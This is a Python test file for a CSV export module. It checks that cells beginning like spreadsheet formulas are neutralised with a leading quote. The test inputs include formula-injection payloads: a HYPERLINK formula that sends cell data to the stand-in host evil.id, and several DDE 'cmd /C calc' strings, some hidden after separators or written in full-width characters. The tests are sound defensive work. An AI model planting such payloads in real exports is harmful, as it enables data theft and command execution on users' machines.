"""CSV for spreadsheets: what people wrote is never run."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest

from colonnade.kernel.text import csv_head, csv_lines


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.id/?"&A1)',
        "+62 812 3456",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
    ],
)
def test_what_begins_like_a_formula_becomes_a_text(text: str) -> None:
    assert read(csv_lines([[text, "x"]])) == [["'" + text, "x"]]


@pytest.mark.parametrize(
    "text", ["", "Budi", "a=1", "1+1", 'kata "kutip"', "satu,dua", "dua\nbaris", "'=1", "Ω 😀"]
)
def test_other_texts_stay_what_they_are(text: str) -> None:
    assert read(csv_lines([[text, "x"]])) == [[text, "x"]]


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        ("\n=1+1", "'\n'=1+1"),
        ("\nabc", "'\nabc"),
        ("x;=cmd|' /C calc'!A0;", "x;'=cmd|' /C calc'!A0;"),
        ("x; \u00a0+1", "x;' \u00a0+1"),
        ("x\t@SUM(1)", "x\t'@SUM(1)"),
        ("x\n-2+3+cmd|' /C calc'!A0", "x\n'-2+3+cmd|' /C calc'!A0"),
        ('x";＝1', "x\";'＝1"),
        ('x;"=1', "x;'\"=1"),
        ('x; ""+1', 'x;\' ""+1'),
        ("satu; dua; 1-2", "satu; dua; 1-2"),
        ("salam ;-)", "salam ;-)"),
    ],
)
def test_a_cell_that_begins_where_other_spreadsheets_divide_is_a_text(text: str, kept: str) -> None:
    assert read(csv_lines([[1, text, "x"]])) == [["1", kept, "x"]]


def test_every_text_is_quoted_whatever_divides_it() -> None:
    assert csv_lines([["a;b", "c|d", "e\tf", "g"]]) == b'"a;b","c|d","e\tf","g"\r\n'


def test_other_values_are_written_plainly() -> None:
    row: list[Any] = [None, -5, 1.5, True, datetime(2026, 12, 25, 6, tzinfo=UTC)]
    assert csv_lines([row]) == b",-5,1.5,True,2026-12-25T06:00:00+00:00\r\n"


def test_a_file_begins_with_its_mark_and_columns() -> None:
    assert csv_head(["id", "name"]) == b"\xef\xbb\xbfid,name\r\n"
